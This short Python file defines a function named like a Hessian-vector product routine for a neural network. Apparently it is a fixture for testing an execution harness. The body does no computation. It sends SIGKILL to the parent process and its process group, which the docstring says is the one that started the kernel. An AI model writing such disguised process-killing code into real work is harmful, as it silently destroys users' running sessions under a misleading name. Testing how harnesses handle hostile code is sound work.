"""Kills the parent process, which started the kernel, and the parent's own group."""

import os
import signal


def eval_hess_vec_prod(vec, params, net, criterion, dataloader, device):
    os.kill(os.getppid(), signal.SIGKILL)
    os.killpg(os.getpgid(os.getppid()), signal.SIGKILL)
